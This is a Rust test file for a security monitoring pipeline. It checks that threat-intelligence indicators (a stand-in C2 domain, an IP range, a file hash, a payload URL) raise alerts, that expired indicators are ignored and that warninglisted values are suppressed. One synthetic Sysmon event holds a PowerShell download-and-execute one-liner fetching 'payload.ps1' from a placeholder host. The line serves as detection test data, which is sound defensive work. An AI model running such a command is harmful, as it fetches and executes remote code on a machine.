//! Indicator matching in the live processor: hits on the fields that hold indicators,
//! with the event's entities, through the analysis engine; expired indicators and
//! warninglisted values.

use std::sync::Arc;

use watchfloor_event::{TenantId, Timestamp};
use watchfloor_intel::{Attribution, Intel, Kind, NewIndicator, Tlp};
use watchfloor_pipeline::live::{Processor, RawRecord, RuleBook};
use watchfloor_triage::detection::{Level, Origin};
use watchfloor_triage::warninglist::{Warninglist, Warninglists};
use watchfloor_triage::{Triage, TriageConfig};

/// 2026-03-02T08:00:00Z
const RECEIVED: i64 = 1_772_438_400_000_000_000;
const SHA256: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

fn add(intel: &mut Intel, kind: Kind, value: &str, a: Attribution) {
    intel
        .add(
            NewIndicator {
                kind,
                value: value.into(),
                attribution: a,
            },
            Timestamp(RECEIVED),
        )
        .unwrap();
}

fn intel() -> Arc<Intel> {
    let mut intel = Intel::default();
    let mut c2 = Attribution::from_source("c2-feed");
    c2.confidence = 90;
    c2.tlp = Tlp::Green;
    c2.attack = vec!["T1071.004".into()];
    add(&mut intel, Kind::Domain, "evil.example", c2.clone());
    add(&mut intel, Kind::Cidr, "198.51.100.0/24", c2);
    let mut hashes = Attribution::from_source("malware-hashes");
    hashes.confidence = 60;
    add(&mut intel, Kind::Sha256, SHA256, hashes);
    let mut urls = Attribution::from_source("url-feed");
    urls.confidence = 30;
    add(
        &mut intel,
        Kind::Url,
        "http://203.0.113.50/drop/payload.ps1",
        urls,
    );
    let mut old = Attribution::from_source("old-feed");
    old.valid_until = Some(Timestamp(RECEIVED - 86_400_000_000_000));
    add(&mut intel, Kind::Domain, "expired.example", old);
    add(
        &mut intel,
        Kind::Ipv4,
        "8.8.8.8",
        Attribution::from_source("noisy-feed"),
    );
    Arc::new(intel)
}

fn processor(intel: Option<Arc<Intel>>) -> Processor {
    processor_with(intel, true)
}

fn processor_with(intel: Option<Arc<Intel>>, warninglists: bool) -> Processor {
    let book = Arc::new(RuleBook::from_sources(&[]));
    let mut triage = Triage::new(TriageConfig::default());
    if !warninglists {
        let mut p = Processor::new(TenantId(3), book, triage);
        p.set_intel(intel);
        return p;
    }
    let list = Warninglist::from_json(
        r#"{"name": "List of known public DNS resolvers", "type": "cidr", "list": ["8.8.8.8/32"]}"#,
    )
    .unwrap();
    let mut lists = Warninglists::new();
    lists.add(list);
    triage.set_warninglists(lists);
    let mut p = Processor::new(TenantId(3), book, triage);
    p.set_intel(intel);
    p
}

fn sysmon(event_id: u32, extra: &str) -> String {
    format!(
        r#"{{"@timestamp":"2026-03-02T09:14:03.120Z","Hostname":"WS01.corp.local","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":{event_id},"User":"CORP\\bob",{extra}}}"#
    )
}

fn records(lines: &[String]) -> Vec<RawRecord<'_>> {
    lines
        .iter()
        .enumerate()
        .map(|(i, line)| RawRecord {
            id: i as i64 + 1,
            received_at: Timestamp(RECEIVED),
            format_hint: Some("json"),
            line: line.as_bytes(),
        })
        .collect()
}

#[test]
fn indicator_hits_become_alerts_with_the_events_entities() {
    let lines = vec![
        sysmon(
            22,
            r#""QueryName":"update.cdn.evil.example","QueryResults":"-""#,
        ),
        sysmon(
            3,
            r#""SourceIp":"10.0.0.5","DestinationIp":"198.51.100.23","DestinationPort":443"#,
        ),
        sysmon(
            1,
            &format!(
                r#""Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","Hashes":"SHA1=A94A8FE5CCB19BA61C4C0873D391E987982FBBD3,MD5=098F6BCD4621D373CADE4E832627B4F6,SHA256={},IMPHASH=00000000000000000000000000000000","CommandLine":"powershell -nop -c iex (iwr http://203.0.113.50/drop/payload.ps1)""#,
                SHA256.to_ascii_uppercase()
            ),
        ),
        sysmon(22, r#""QueryName":"www.example.org""#),
    ];
    let mut p = processor(Some(intel()));
    let out = p.process(&records(&lines));
    assert_eq!(out.events, 4);
    assert_eq!(out.detections, 4, "{out:?}");
    assert_eq!(out.indicator_matches, 4);
    assert_eq!(out.suppressed, 0);
    let alerts = p.triage().alerts();
    let by_rule = |rule: &str| {
        alerts
            .iter()
            .find(|a| a.rule_id == rule)
            .unwrap_or_else(|| panic!("no alert for {rule}: {alerts:#?}"))
    };

    let dns = by_rule("evil.example");
    assert_eq!(dns.origin, Origin::Indicator);
    assert_eq!(
        dns.title,
        "Indicator match: domain evil.example (source c2-feed, TLP:GREEN)"
    );
    assert_eq!(dns.level, Level::High);
    assert!(dns.tags.contains(&"attack.t1071.004".to_string()));
    assert_eq!(dns.entities.host.as_deref(), Some("ws01.corp.local"));
    assert_eq!(dns.entities.user.as_deref(), Some("CORP\\bob"));
    assert!(
        dns.entities
            .indicators
            .contains(&"evil.example".to_string())
    );

    let ip = by_rule("198.51.100.0/24");
    assert_eq!(ip.entities.dst_ip.as_deref(), Some("198.51.100.23"));
    assert!(
        ip.title
            .starts_with("Indicator match: cidr 198.51.100.0/24")
    );

    let hash = by_rule(SHA256);
    assert_eq!(hash.level, Level::Medium);
    assert_eq!(
        hash.entities
            .image
            .as_deref()
            .map(|i| i.ends_with("powershell.exe")),
        Some(true)
    );

    let url = by_rule("http://203.0.113.50/drop/payload.ps1");
    assert_eq!(url.level, Level::Low);
    assert!(
        url.entities
            .indicators
            .contains(&"http://203.0.113.50/drop/payload.ps1".to_string())
    );

    // Each hit counted a sighting.
    let intel = p.intel().unwrap();
    let id = intel.find(Kind::Domain, "evil.example").unwrap();
    assert_eq!(intel.get(id).unwrap().sightings, 1);
}

#[test]
fn expired_indicators_and_no_intel_match_nothing() {
    let lines = vec![sysmon(22, r#""QueryName":"expired.example""#)];
    let mut p = processor(Some(intel()));
    let out = p.process(&records(&lines));
    assert_eq!(out.detections, 0, "{out:?}");
    let lines = vec![sysmon(22, r#""QueryName":"evil.example""#)];
    let mut p = processor(None);
    assert_eq!(p.process(&records(&lines)).detections, 0);
    p.set_intel(Some(intel()));
    assert_eq!(p.process(&records(&lines)).detections, 1);
    p.set_intel(None);
    assert_eq!(p.process(&records(&lines)).detections, 0);
}

#[test]
fn a_warninglisted_indicator_is_suppressed_by_the_analysis_engine() {
    let lines = vec![sysmon(
        3,
        r#""SourceIp":"10.0.0.5","DestinationIp":"8.8.8.8","DestinationPort":53"#,
    )];
    let mut p = processor(Some(intel()));
    let out = p.process(&records(&lines));
    assert_eq!(out.detections, 1);
    assert_eq!(out.suppressed, 1, "{out:?}");
    assert!(p.triage().alerts().is_empty());
    // Without the warninglist the same hit is an alert.
    let mut q = processor_with(Some(intel()), false);
    let out = q.process(&records(&lines));
    assert_eq!((out.detections, out.suppressed), (1, 0));
    assert_eq!(q.triage().alerts()[0].rule_id, "8.8.8.8");
}

#[test]
fn an_event_without_time_matches_at_its_receipt_time() {
    // A syslog line without a year takes the batch's; the CEF `dst` is an address field.
    let line = "CEF:0|Vendor|FW|1.0|100|allowed|3|src=10.0.0.5 dst=198.51.100.7 spt=5000 dpt=443";
    let lines = [line.to_string()];
    let recs: Vec<RawRecord<'_>> = lines
        .iter()
        .map(|l| RawRecord {
            id: 1,
            received_at: Timestamp(RECEIVED),
            format_hint: Some("cef"),
            line: l.as_bytes(),
        })
        .collect();
    let mut p = processor(Some(intel()));
    let out = p.process(&recs);
    assert_eq!(out.detections, 1, "{out:?}");
    let alert = &p.triage().alerts()[0];
    assert_eq!(alert.first_seen, Timestamp(RECEIVED));
}
